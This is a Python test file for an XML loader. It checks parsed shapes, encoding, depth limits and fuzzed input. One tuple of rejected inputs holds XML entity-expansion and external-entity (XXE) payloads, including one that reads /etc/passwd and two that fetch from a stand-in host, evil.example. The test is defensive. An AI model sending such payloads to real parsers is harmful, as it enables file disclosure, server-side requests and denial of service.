"""XML as a structure, and what XML may not do here."""

from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grantline.calls.structures.xml_structure import MAX_DEPTH, load_xml

BOMB = (
    '<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;">]><a>&c;</a>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x"> %b;]><a/>',
    '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a>&unknown;</a>',
)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("<a/>", {"a": None}),
        ("<a> x </a>", {"a": "x"}),
        ('<a b="1"/>', {"a": {"@b": "1"}}),
        ('<a b="1">x<c/>y</a>', {"a": {"@b": "1", "c": None, "#text": "xy"}}),
        ("<a><b>1</b><b>2</b><c/><b/></a>", {"a": {"b": ["1", "2", None], "c": None}}),
        ("<s:a xmlns:s='urn:x'><s:b/></s:a>", {"s:a": {"@xmlns:s": "urn:x", "s:b": None}}),
        ("<a>&lt;&#233;<![CDATA[<b>]]></a>", {"a": "<é<b>"}),
        ("<!DOCTYPE html><a/>", {"a": None}),
        ("<?xml version='1.0'?><!-- x --><a><!-- y --></a>", {"a": None}),
    ],
)
def test_the_shape(text: str, value: Any) -> None:
    assert load_xml(text) == value


def test_bytes_are_read_in_the_encoding_that_they_declare() -> None:
    text = '<?xml version="1.0" encoding="iso-8859-1"?><a>é</a>'
    assert load_xml(text.encode("latin-1")) == {"a": "é"}


@pytest.mark.parametrize("text", [*BOMB, "", "<a>", "a", "<a></b>", "<a/><b/>"])
def test_declarations_and_what_is_no_xml_are_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"."):
        load_xml(text)


def test_depth_has_an_end() -> None:
    load_xml("<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH)
    with pytest.raises(ValueError, match="too deep"):
        load_xml("<a>" * 100_000)


@given(st.one_of(st.binary(), st.text(alphabet="<>/ab&;!?[]'= \"")))
def test_any_bytes_give_a_structure_or_a_value_error(data: bytes | str) -> None:
    with suppress(ValueError):
        assert isinstance(load_xml(data), dict)
